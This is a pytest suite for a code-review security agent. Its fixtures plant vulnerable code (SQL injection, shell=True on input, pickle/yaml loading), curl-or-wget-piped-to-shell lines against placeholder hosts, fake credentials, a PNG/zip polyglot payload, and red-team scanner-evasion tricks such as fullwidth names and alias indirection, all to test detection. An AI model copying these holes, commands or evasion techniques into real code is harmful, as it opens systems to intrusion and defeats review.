"""The Security sub-agent on throw-away repositories, with the real tools."""

from __future__ import annotations

import leo_security.bandit
import pytest
from leo_security import SecurityAgent
from leo_security.rules import RuleSet, builtin_rule_texts

from leo import LeoError
from leo.repos import git
from leo.testing import make_repo, run_agents

VIEWS = """\
import pickle
import subprocess

import yaml


def get_user(request, db):
    name = request.args.get("name")
    query = f"SELECT * FROM users WHERE name = '{name}'"
    return db.execute(query)


def run(request):
    subprocess.run(request.args["cmd"], shell=True)
    cfg = yaml.load(request.data)
    obj = pickle.loads(request.data)
    return cfg, obj


AWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYq8Jw3nR5t7"


def trusted(cmd):
    subprocess.run(cmd, shell=True)  # nosec B602 - cmd is a constant from our config
"""
PRIVATE_KEY = """\
-----BEGIN RSA PRIVATE KEY-----
MIIEpAIBAAKCAQEA1Pd3i3yGkzQwX9r7Yk0b3Xk2mZk6W3vFQ8kX1q0pW2uHq8Jw
-----END RSA PRIVATE KEY-----
"""
WORKFLOW = """\
name: pr
on:
  pull_request_target:
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: make test
"""
JS = """\
const cp = require("child_process");
function list(req) {
  cp.exec(`ls ${req.query.dir}`);
}
"""
SHELL = """\
#!/bin/sh
curl -fsSL https://example.com/install.sh | sh
"""
DOCKERFILE = """\
FROM python:3.12
RUN curl -k https://example.com/tool -o /usr/local/bin/tool
"""
#: Vulnerable code already on the base branch; the change only appends a clean function.
LEGACY = """\
import pickle
import subprocess


def legacy(request):
    subprocess.run(request.args["cmd"], shell=True)
    return pickle.loads(request.data)
"""
CLEAN = """\
import json


def parse(text: str) -> dict:
    return json.loads(text)
"""


@pytest.fixture(scope="module")
def vulnerable(tmp_path_factory):
    """One change adding every planted problem, run once for all the assertions below."""
    repo = make_repo(
        tmp_path_factory.mktemp("vulnerable"),
        base={"README.md": "demo\n", "app/legacy.py": LEGACY},
        head={
            "app/views.py": VIEWS,
            "app/key.pem": PRIVATE_KEY,
            ".github/workflows/pr.yml": WORKFLOW,
            "web/list.js": JS,
            "scripts/install.sh": SHELL,
            "Dockerfile": DOCKERFILE,
            "app/legacy.py": LEGACY + "\n\ndef helper():\n    return 1\n",
            "docs/logo.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00binary",
        },
    )
    return run_agents(repo.change(), [SecurityAgent])


@pytest.fixture(scope="module")
def clean(tmp_path_factory):
    """A clean change to a file whose untouched lines hold the same vulnerable code."""
    return make_repo(
        tmp_path_factory.mktemp("clean"),
        base={"README.md": "demo\n", "app/legacy.py": LEGACY},
        head={"app/legacy.py": LEGACY + "\n\ndef helper():\n    return 1\n", "app/parse.py": CLEAN},
    )


def test_vulnerable_change_fails(vulnerable):
    vulnerable.assert_verdict("FAIL")
    assert vulnerable.agent("security").status == "failed"


@pytest.mark.parametrize(
    ("rule", "path", "line"),
    [
        ("security.semgrep.sql-built-from-formatted-string", "app/views.py", 10),
        ("security.bandit.B608", "app/views.py", 9),
        ("security.semgrep.subprocess-shell-with-non-literal-command", "app/views.py", 14),
        ("security.bandit.B602", "app/views.py", 14),
        ("security.semgrep.unsafe-yaml-load", "app/views.py", 15),
        ("security.bandit.B506", "app/views.py", 15),
        ("security.semgrep.unsafe-deserialisation", "app/views.py", 16),
        ("security.bandit.B301", "app/views.py", 16),
        ("security.secrets.AWSKeyDetector", "app/views.py", 20),
        ("security.secrets.PrivateKeyDetector", "app/key.pem", 1),
        ("security.semgrep.pull-request-target-checks-out-pr-head", ".github/workflows/pr.yml", 8),
        ("security.zizmor.dangerous-triggers", ".github/workflows/pr.yml", 3),
        ("security.semgrep.js-shell-command-from-input", "web/list.js", 3),
        ("security.semgrep.shell-download-piped-to-shell", "scripts/install.sh", 2),
        ("security.semgrep.dockerfile-tls-verification-disabled", "Dockerfile", 2),
    ],
)
def test_each_planted_problem_is_found_on_its_line(vulnerable, rule, path, line):
    finding = vulnerable.assert_finding(rule, path=path, line=line)
    assert finding.on_changed_line


@pytest.mark.parametrize(
    ("path", "line", "severity"),
    [
        ("app/views.py", 10, "high"),  # SQL from an f-string with request data
        ("app/views.py", 14, "high"),  # shell=True on input
        ("app/views.py", 15, "high"),  # yaml.load
        ("app/views.py", 16, "high"),  # pickle.loads on input
        ("app/views.py", 20, "critical"),  # AWS secret key
        ("app/key.pem", 1, "critical"),  # private key block
        (".github/workflows/pr.yml", 8, "critical"),  # pull_request_target checks out the head
    ],
)
def test_each_planted_problem_blocks_on_its_own(vulnerable, path, line, severity):
    worst = min(
        ("critical", "high", "medium", "low", "info").index(f.severity)
        for f in vulnerable.findings
        if f.path == path and f.line == line and f.on_changed_line
    )
    assert ("critical", "high", "medium", "low", "info")[worst] == severity


SEMGREP_ONLY = {"agents": {"security": {"skip": ["bandit", "secrets", "zizmor"]}}}
SHELL_RULE = "security.semgrep.subprocess-shell-with-non-literal-command"


@pytest.mark.parametrize(
    "call",
    [
        'getattr(subprocess, "call")("ping " + host, shell=True)',
        '__import__("os").system("ping " + host)',
        'importlib.import_module("os").popen("ping " + host)',
        'getattr(os, "system")("ping " + host)',
    ],
)
def test_a_shell_reached_by_name_is_a_shell(tmp_path, call):
    source = f"import importlib\nimport os\nimport subprocess\n\n\ndef ping(host):\n    {call}\n"
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/net.py": source})
    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
    result.assert_verdict("FAIL")
    result.assert_finding(SHELL_RULE, path="app/net.py", line=7)


@pytest.mark.parametrize(
    ("alias", "command", "blocks"),
    [
        ("os.system", '"ping " + host', True),
        ("subprocess.Popen", '"ping " + host, shell=True', True),
        ("os.system", '"make clean"', False),  # twin: a constant command through the alias
        ("subprocess.Popen", "[host], shell=False", False),  # twin: no shell
    ],
)
def test_a_shell_reached_through_an_alias_is_a_shell(tmp_path, alias, command, blocks):
    source = f"import os\nimport subprocess\n\n_run = {alias}\n\n\ndef ping(host):\n    _run({command})\n"
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/net.py": source})
    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
    hits = [f for f in result.findings if f.rule_id == SHELL_RULE]
    assert bool(hits) is blocks, hits
    result.assert_verdict("FAIL" if blocks else "PASS")


@pytest.mark.parametrize(
    ("source", "rule", "blocks"),
    [
        ("import builtins\n\n\ndef f(x):\n    return builtins.eval(x)\n", "eval-or-exec", True),
        ('import builtins\n\n\ndef f(x):\n    return getattr(builtins, "exec")(x)\n', "eval-or-exec", True),
        ("_ev = eval\n\n\ndef f(x):\n    return _ev(x)\n", "eval-or-exec", True),
        ('_ev = eval\n\n\ndef f(x):\n    return _ev("2")\n', "eval-or-exec", False),  # twin
        ("import pickle\n\n_load = pickle.loads\n\n\ndef f(b):\n    return _load(b)\n", "unsafe-deserialisation", True),
        ('import marshal\n\n\ndef f(b):\n    return getattr(marshal, "loads")(b)\n', "unsafe-deserialisation", True),
        ("import pickle\n\n_dump = pickle.dumps\n\n\ndef f(b):\n    return _dump(b)\n", "unsafe-deserialisation", False),  # twin
    ],
)  # fmt: skip
def test_code_execution_reached_by_name_or_alias(tmp_path, source, rule, blocks):
    """Round-4 red team: builtins.eval(formula) and _load = pickle.loads PASSed."""
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/calc.py": source})
    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
    hits = [f for f in result.findings if f.rule_id.startswith(f"security.semgrep.{rule}")]
    assert bool(hits) is blocks, hits
    result.assert_verdict("FAIL" if blocks else "PASS")


FULLWIDTH_EXECUTE = "\uff45\uff58\uff45\uff43\uff55\uff54\uff45"  # Python reads: execute


def test_a_name_python_reads_otherwise_is_read_as_python_reads_it(tmp_path):
    """Round-4 red team: semgrep matched the fullwidth letters, not the ``execute`` Python runs."""
    source = f'# caf\u00e9\n\n\ndef find(conn, n):\n    return conn.{FULLWIDTH_EXECUTE}(f"SELECT {{n}}")\n'
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/db.py": source})
    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
    result.assert_verdict("FAIL")
    result.assert_finding(
        "security.semgrep.sql-built-from-formatted-string", path="app/db.py", line=5
    )


def test_fullwidth_letters_in_strings_and_comments_are_left_alone(tmp_path):
    source = f'TITLE = "{FULLWIDTH_EXECUTE}"  # {FULLWIDTH_EXECUTE}\n\u00b5 = 1e-6\n'
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/text.py": source})
    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
    result.assert_verdict("PASS")


BUILD_RULE = "security.semgrep.build-download-piped-to-shell"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("Makefile", "install:\n\tcurl -sSL http://get.example.invalid/setup.sh | sh\n"),
        ("docs/Makefile", "html:\n\twget -qO- http://get.example.invalid/x | sudo bash\n"),
        ("tox.ini", "[testenv]\ncommands_pre = sh -c 'curl -s http://x.invalid/a | bash'\n"),
        (".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: s\n"
         "        entry: sh -c 'curl -s http://x.invalid/a | sh'\n        language: system\n"),
    ],
)  # fmt: skip
def test_a_build_file_that_pipes_a_download_into_a_shell_asks_a_lead(tmp_path, path, text):
    """Round-4 red team: make install, tox and pre-commit ran a downloaded script: PASS."""
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {path: text})
    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
    finding = result.assert_finding(BUILD_RULE, path=path)
    assert finding.severity == "medium" and finding.on_changed_line
    result.assert_verdict("CONDITIONAL_PASS")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("Makefile", "dist:\n\tcurl -sSLo dist/x.tgz http://get.example.invalid/x.tgz\n"),
        ("tox.ini", "[testenv]\ncommands = pytest {posargs}\n"),
        ("notes/NotAMakefile", "curl -s http://get.example.invalid/x | sh\n"),  # not a build file
    ],
)
def test_ordinary_build_files_pass(tmp_path, path, text):
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {path: text})
    config = {"agents": {"security": {"skip": ["bandit", "zizmor"]}}}
    result = run_agents(repo.change(), [SecurityAgent], config=config)
    result.assert_verdict("PASS")
    assert not [f for f in result.findings if f.rule_id == BUILD_RULE]


def test_secret_values_never_appear_in_the_report(vulnerable):
    text = vulnerable.report.model_dump_json()
    assert "wJalrXUtnFEMI" not in text
    assert "MIIEpAIBAAKCAQEA" not in text


def test_vulnerable_code_in_untouched_lines_is_context_only(vulnerable):
    legacy = [f for f in vulnerable.findings if f.path == "app/legacy.py"]
    assert {f.rule_id for f in legacy} >= {
        "security.bandit.B602",
        "security.semgrep.subprocess-shell-with-non-literal-command",
    }
    assert not any(f.on_changed_line for f in legacy)


def test_suppressions_the_change_adds_are_counted_and_not_honoured(vulnerable):
    agent = vulnerable.agent("security")
    [kept] = [f for f in agent.findings if f.rule_id == "security.bandit.B602" and f.line == 24]
    assert kept.severity == "high" and "suppressed by the change itself" in kept.message
    assert agent.details["unhonoured_suppressions"]["bandit"] == 1
    assert agent.details["suppressions"]["nosec"] == {"added": 1, "in_changed_files": 1}
    vulnerable.assert_finding("security.suppression.nosec", path="app/views.py", line=24)


def test_result_says_which_tool_analysed_which_file(vulnerable):
    agent = vulnerable.agent("security")
    by = agent.details["analysed_by"]
    assert "app/views.py" in by["bandit"]
    assert "app/views.py" in by["semgrep"]
    assert ".github/workflows/pr.yml" in by["zizmor"]
    assert "app/key.pem" in by["detect-secrets"]
    assert {t.name for t in agent.tools} == {"bandit", "semgrep", "detect-secrets", "zizmor"}
    assert all(t.version not in ("", "?") for t in agent.tools)


def test_an_image_is_listed_as_not_analysed_but_is_not_missing_evidence(vulnerable):
    agent = vulnerable.agent("security")
    skipped = {n.path: n for n in agent.analysed.not_analysed}
    assert skipped["docs/logo.png"].reason == "binary content (a PNG image: no scanner reads it)"
    assert not skipped["docs/logo.png"].unread
    assert "docs/logo.png" not in agent.analysed.files


def _png_zip_polyglot() -> bytes:
    import io
    import zipfile

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.py", "import os\nos.system('id')\n")
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + archive.getvalue()


PNG_ZIP_POLYGLOT = _png_zip_polyglot()


@pytest.mark.parametrize(
    ("name", "data", "unread"),
    [
        (
            "docs/objects.inv",
            b"# Sphinx inventory version 2\n# Project: x\n\x78\x9c\x00\xff",
            False,
        ),
        ("static/icon.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 \x00", False),
        ("bin/tool", b"\x7fELF\x02\x01\x01\x00\x00", True),  # could run: missing evidence
        ("pkg/__pycache__/m.cpython-311.pyc", b"\xa7\x0d\x0d\x0a\x00\x00\x00\x00", True),
        ("fake.png", b"not a png\x00 but says so by name", True),  # the name decides nothing
        # a PNG with a zip appended: `sys.path.append("logo.png"); import payload` runs it
        ("docs/logo.png", PNG_ZIP_POLYGLOT, True),
        # round-4 red team: a module that starts with an ASCII magic and is not UTF-8 compiles
        (
            "shop/notify.py",
            b"# Sphinx inventory version 2\n# -*- coding: latin-1 -*-\n# caf\xe9\n"
            b"import os\nos.system('ping ' + input())\n",
            True,
        ),
        ("shop/logo.gif", b"GIF89a = 1  # caf\xe9\nimport os\nos.system(input())\n", True),
    ],
)
def test_only_inert_binary_formats_are_not_missing_evidence(leo_repo, leo_run, name, data, unread):
    """semver 3.0.2 ESCALATEd on two Sphinx inventories (issue 18); code in a blob still does."""
    repo = leo_repo(base={"README.md": "x\n"}, head={name: data, "app.py": "X = 1\n"})
    result = leo_run(repo.change(), [SecurityAgent])
    (item,) = result.agent("security").analysed.not_analysed
    assert item.unread is unread, item
    result.assert_verdict("ESCALATE" if unread else "PASS")


def test_clean_change_passes_despite_vulnerable_untouched_lines(clean):
    result = run_agents(clean.change(), [SecurityAgent])
    result.assert_verdict("PASS")
    agent = result.agent("security")
    assert agent.status == "passed"
    assert agent.confidence == 100
    assert any(f.path == "app/legacy.py" and not f.on_changed_line for f in agent.findings)
    assert set(agent.analysed.files) == {"app/legacy.py", "app/parse.py"}


def test_whole_files_setting_makes_untouched_lines_block(clean):
    result = run_agents(
        clean.change(),
        [SecurityAgent],
        config={"agents": {"security": {"whole_files": True, "skip": ["semgrep"]}}},
    )
    result.assert_verdict("FAIL")
    result.assert_finding("security.bandit.B602", path="app/legacy.py", line=6)
    assert result.agent("security").details["skipped_tools"] == ["semgrep"]


def test_missing_tool_makes_the_agent_error_not_pass(clean, monkeypatch):
    real = leo_security.bandit.run_tool

    async def without_bandit(argv, **kwargs):
        return await real(["bandit-is-not-installed-here", *argv[1:]], **kwargs)

    monkeypatch.setattr(leo_security.bandit, "run_tool", without_bandit)
    result = run_agents(
        clean.change(), [SecurityAgent], config={"agents": {"security": {"skip": ["semgrep"]}}}
    )
    agent = result.agent("security")
    assert agent.status == "error"
    assert "bandit-is-not-installed-here" in agent.error
    assert result.report.verdict != "PASS"


def test_semgrep_crash_on_a_team_rule_makes_the_agent_error(tmp_path):
    bad_rule = tmp_path / "bad.yml"
    bad_rule.write_text(
        "rules:\n  - id: broken\n    languages: [python]\n    severity: ERROR\n"
        "    message: x\n    pattern: 'foo(('\n"
    )
    repo = make_repo(tmp_path / "r", base={"README.md": "x\n"}, head={"app/x.py": CLEAN})
    result = run_agents(
        repo.change(),
        [SecurityAgent],
        config={"agents": {"security": {"rules": [str(bad_rule)], "builtin_rules": False}}},
    )
    agent = result.agent("security")
    assert agent.status == "error"
    assert "semgrep failed" in agent.summary
    assert result.report.verdict != "PASS"


def test_team_rule_paths_are_read_from_the_base_commit(tmp_path):
    rule = (
        "rules:\n  - id: no-print\n    languages: [python]\n    severity: WARNING\n"
        "    message: no print in library code\n    pattern: print(...)\n"
    )
    repo = make_repo(
        tmp_path / "r",
        base={"rules/team.yml": rule},
        # The change tries to switch the team rule off; the base's copy still applies.
        head={"rules/team.yml": "rules: []\n", "app/x.py": "print('hi')\n"},
    )
    result = run_agents(
        repo.change(),
        [SecurityAgent],
        config={"agents": {"security": {"rules": ["rules/team.yml"], "builtin_rules": False}}},
    )
    finding = result.assert_finding("security.semgrep.no-print", path="app/x.py", line=1)
    assert finding.severity == "medium"


TEAM_RULES = {"agents": {"security": {"rules": ["rules/team.yml"], "builtin_rules": False}}}
NO_PRINT = (
    "rules:\n  - id: no-print\n    languages: [python]\n    severity: WARNING\n"
    "    message: no print in library code\n    pattern: print(...)\n"
)


def test_an_edit_of_the_team_rules_is_a_lead_decision(tmp_path):
    """Round-4 red team: the edit alone PASSed, and every later change met the weakened rule."""
    weakened = NO_PRINT.replace("pattern: print(...)", "pattern: print(..., never=1)")
    repo = make_repo(tmp_path / "r", {"rules/team.yml": NO_PRINT}, {"rules/team.yml": weakened})
    result = run_agents(repo.change(), [SecurityAgent], config=TEAM_RULES)
    result.assert_verdict("ESCALATE")
    agent = result.agent("security")
    assert agent.details["rules_edited"] == ["rules/team.yml"]
    assert "semgrep rule file rules/team.yml" in agent.decisions[0]


def test_deleting_the_team_rules_is_a_lead_decision(tmp_path):
    repo = make_repo(tmp_path / "r", {"rules/team.yml": NO_PRINT}, {"rules/team.yml": None})
    result = run_agents(repo.change(), [SecurityAgent], config=TEAM_RULES)
    assert result.report.verdict in ("ESCALATE", "FAIL"), result.report.reasons
    assert "semgrep rule file rules/team.yml" in result.agent("security").decisions[0]


def test_other_yaml_next_to_the_team_rules_is_no_decision(tmp_path):
    base = {"rules/team.yml": NO_PRINT, "rules/other.yml": "a: 1\n"}
    repo = make_repo(tmp_path / "r", base, {"rules/other.yml": "a: 2\n"})
    result = run_agents(repo.change(), [SecurityAgent], config=TEAM_RULES)
    result.assert_verdict("PASS")
    assert result.agent("security").decisions == ()


def test_bad_setting_stops_the_run_naming_it(clean):
    config = {"agents": {"security": {"skip": ["nmap"]}}}
    with pytest.raises(
        LeoError, match=r"skip = 'nmap' is invalid.*'semgrep', 'secrets' or 'zizmor'"
    ):
        run_agents(clean.change(), [SecurityAgent], config=config)


def test_shipped_rules_are_package_data_with_leo_severities(tmp_path):
    texts = builtin_rule_texts()
    assert {
        "python.yml",
        "javascript.yml",
        "shell.yml",
        "dockerfile.yml",
        "github-actions.yml",
    } <= set(texts)
    rules = RuleSet()
    for name, text in texts.items():
        rules.add(name, text, tmp_path / name)
    assert {"python", "javascript", "typescript", "bash", "dockerfile", "yaml"} <= rules.languages
    assert set(rules.ids) == set(rules.severities)
    assert set(rules.severities.values()) <= {"critical", "high", "medium", "low", "info"}


def test_files_no_scanner_could_read_are_listed_with_reasons(tmp_path):
    repo = make_repo(
        tmp_path / "r",
        base={"README.md": "x\n", "old.txt": "gone\n"},
        head={
            "app/broken.py": "def f(:\n",
            "app/big.py": "x = 1\n" * 100,
            "main.go": "package main\n",
            "notes.md": "just text\n",
            "old.txt": None,
        },
    )
    result = run_agents(
        repo.change(),
        [SecurityAgent],
        config={"agents": {"security": {"skip": ["semgrep"], "max_file_bytes": 300}}},
    )
    agent = result.agent("security")
    reasons = {n.path: n.reason for n in agent.analysed.not_analysed}
    assert "bandit could not analyse it" in reasons["app/broken.py"]
    assert reasons["app/big.py"].startswith("too large")
    assert "no code scanner" in reasons["main.go"]
    assert reasons["old.txt"] == "deleted by the change"
    assert agent.analysed.files == ("notes.md",)
    # main.go costs 10 points; the two unread files ask a LEAD (their requirement) instead
    assert agent.confidence == 90


def test_files_without_added_lines_are_scanned_without_a_crash(tmp_path):
    """Issue 18: detect-secrets raised ValueError on any diff holding a file that adds no line
    (deletion-only, rename-only, mode-only), which crashed the whole sub-agent."""
    repo = make_repo(
        tmp_path,
        base={
            "app/trim.py": "A = 1\nB = 2\n",
            "app/old_name.py": CLEAN,
            "app/tool.py": CLEAN,
            "app/gone.py": "GONE = True\n",
            "data/blob.bin": b"\x00\x01\x02",
        },
        head={
            "app/trim.py": "A = 1\n",
            "app/gone.py": None,
            "data/blob.bin": b"\x00\x03\x02",
            "app/config.py": 'GITHUB_TOKEN = "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"\n',
        },
    )
    git(repo.path, "mv", "app/old_name.py", "app/new_name.py")
    (repo.path / "app" / "tool.py").chmod(0o755)
    repo.commit({}, "rename and mode change")
    run = run_agents(repo.change(), [SecurityAgent])
    security = run.agent("security")
    assert security.status != "error", security.error
    run.assert_finding("security.secrets.", path="app/config.py", line=1)
    assert not [
        n for n in security.analysed.not_analysed if n.path not in ("app/gone.py", "data/blob.bin")
    ], security.analysed.not_analysed


OLD_SHELL = """\
import subprocess


def legacy(request):
    subprocess.run(request.args["cmd"], shell=True)
"""


def test_finding_the_base_already_had_is_context_even_on_a_changed_line(tmp_path):
    """Hold the line (issue 18): re-indenting old code does not make its problem new."""
    wrapped = OLD_SHELL.replace(
        '    subprocess.run(request.args["cmd"], shell=True)\n',
        '    try:\n        subprocess.run(request.args["cmd"],  shell=True)\n'
        "    except OSError:\n        return None\n",
    )
    rest = "".join(f"\n\ndef helper_{i}(x):\n    return x + {i}\n" for i in range(12))
    repo = make_repo(
        tmp_path,
        base={"app/legacy.py": OLD_SHELL + rest},
        head={"app/legacy.py": None, "app/moved.py": wrapped + rest},
    )
    assert repo.change().file("app/moved.py").old_path == "app/legacy.py"
    run = run_agents(repo.change(), [SecurityAgent])
    security = run.agent("security")
    old = run.assert_finding("security.bandit.B602", path="app/moved.py", line=6)
    assert not old.on_changed_line
    assert "pre-existing" in old.message
    assert security.details["pre_existing"] >= 2  # bandit's and semgrep's
    assert security.status == "passed", [f for f in security.findings if f.on_changed_line]


def test_a_second_copy_of_an_old_problem_is_new(tmp_path):
    doubled = OLD_SHELL.replace(
        '    subprocess.run(request.args["cmd"], shell=True)\n',
        '    subprocess.run(request.args["cmd"], shell=True)\n' * 2,
    )
    repo = make_repo(tmp_path, base={"app/legacy.py": OLD_SHELL}, head={"app/legacy.py": doubled})
    run = run_agents(
        repo.change(), [SecurityAgent], config={"agents": {"security": {"skip": ["semgrep"]}}}
    )
    blocking = [
        f for f in run.findings if f.rule_id == "security.bandit.B602" and f.on_changed_line
    ]
    assert len(blocking) == 1
    run.assert_verdict("FAIL")


TEST_CODE = """\
import hashlib
import pickle


def test_roundtrip(tmp_path):
    data = pickle.loads(pickle.dumps({"a": 1}))
    assert hashlib.md5(b"x").hexdigest() and data
"""


@pytest.mark.parametrize(
    "path", ["tests/test_cache.py", "pkg/tests/test_helpers.py", "conftest.py"]
)
def test_code_findings_in_test_code_are_context_not_blocking(tmp_path, path):
    """Issue 18: releases of requests, jinja2 and flask FAILed on md5 and pickle in their tests.
    Test code does not ship and runs only in LEO's sandbox; a secret there still blocks."""
    repo = make_repo(tmp_path, base={"README.md": "x\n"}, head={path: TEST_CODE})
    run = run_agents(repo.change(), [SecurityAgent])
    security = run.agent("security")
    assert security.status == "passed", [(f.rule_id, f.severity) for f in security.findings]
    assert security.findings and {f.severity for f in security.findings} <= {"low", "info"}
    assert any("[test code: " in f.message for f in security.findings)
    secret = make_repo(
        tmp_path / "secret",
        base={"README.md": "x\n"},
        head={path: 'TOKEN = "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"\n'},
    )
    assert run_agents(secret.change(), [SecurityAgent]).agent("security").status == "failed"


def test_test_code_gate_lets_its_findings_block_and_production_code_always_does(tmp_path):
    repo = make_repo(tmp_path, base={"README.md": "x\n"}, head={"tests/test_cache.py": TEST_CODE})
    gated = run_agents(
        repo.change(), [SecurityAgent], config={"agents": {"security": {"test_code": "gate"}}}
    )
    assert gated.agent("security").status == "failed"
    prod = make_repo(tmp_path / "prod", base={"README.md": "x\n"}, head={"pkg/cache.py": TEST_CODE})
    assert run_agents(prod.change(), [SecurityAgent]).agent("security").status == "failed"


def test_code_findings_in_a_test_named_module_the_code_imports_block(tmp_path):
    """Round-7 red team: ``shop/test_rules.py`` ran ``subprocess.call(cmd, shell=True)``,
    ``shop/__init__`` imported it, and a dummy ``def test_x(): pass`` made both findings low
    test context: PASS."""
    rules = "import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n"
    repo = make_repo(
        tmp_path,
        base={"shop/__init__.py": ""},
        head={
            "shop/__init__.py": "from shop.test_rules import run\n",
            "shop/test_rules.py": rules + "\n\ndef test_x():\n    pass\n",
        },
    )
    run = run_agents(repo.change(), [SecurityAgent])
    assert run.assert_finding("security.bandit.B602", path="shop/test_rules.py").severity == "high"
    run.assert_verdict("FAIL")


@pytest.mark.parametrize("path", ["tests/helpers.py", "pkg/testing/__init__.py"])
def test_production_code_moved_under_a_test_directory_still_blocks(tmp_path, path):
    """Only test modules are context: a helper under tests/ or testing/ can be imported by
    the package, so moving vulnerable code there does not turn the gate green."""
    repo = make_repo(tmp_path, base={"README.md": "x\n"}, head={path: TEST_CODE})
    assert run_agents(repo.change(), [SecurityAgent]).agent("security").status == "failed"


SPLIT = '''"""Cloud access."""

AWS_ACCESS_KEY_ID = "AKIA" "IOSFODNN7" "EXAMPLQ"
AWS_SECRET_ACCESS_KEY = (
    "wJalrXUtnFEMI/K7MDENG/"
    "bPxRfiCYEXAMPLEKEYQ"
)
GREETING = "Hello, " "world " + "and welcome"
'''


def test_a_secret_split_into_pieces_is_scanned_whole(tmp_path):
    # detect-secrets reads one line at a time: an AWS key written as three literals had PASSed.
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/cloud.py": SPLIT})
    only_secrets = {"agents": {"security": {"skip": ["semgrep", "zizmor", "bandit"]}}}
    result = run_agents(repo.change(), [SecurityAgent], config=only_secrets)
    result.assert_verdict("FAIL")
    result.assert_finding("security.secrets.AWSKeyDetector", path="app/cloud.py", line=3)
    result.assert_finding("security.secrets.KeywordDetector", path="app/cloud.py", line=5)
    assert not any(f.line == 8 for f in result.findings)  # prose in pieces is no secret
    assert "IOSFODNN7" not in result.report.model_dump_json()


def test_split_strings_reads_each_pieced_string_once_in_one_pass():
    """Implicit concatenation is found by one pass of the tokenizer (reading each literal's
    source again took pyparsing's 6,000-line module past the sub-agent's timeout); a ``+``
    chain is one string; a plain literal is not pieced; columns count bytes, as ``ast`` does."""
    from leo_security.secrets import split_strings

    source = (
        'label = "é"; key = ("AKIA"  # the id\n'
        '    "IOSF")\n'
        'x = "a" + "b" + "c" + "d"\n'
        'plain = "one literal"\n'
        'call(token="x" "y")\n'
    ).encode()
    assert split_strings(source) == [
        (1, 2, "key = 'AKIAIOSF'"),
        (3, 3, "x = 'abcd'"),
        (5, 5, "token = 'xy'"),
    ]
    big = b"".join(b'v%d = "p" "q"\n' % n for n in range(20_000))
    assert len(split_strings(big)) == 20_000
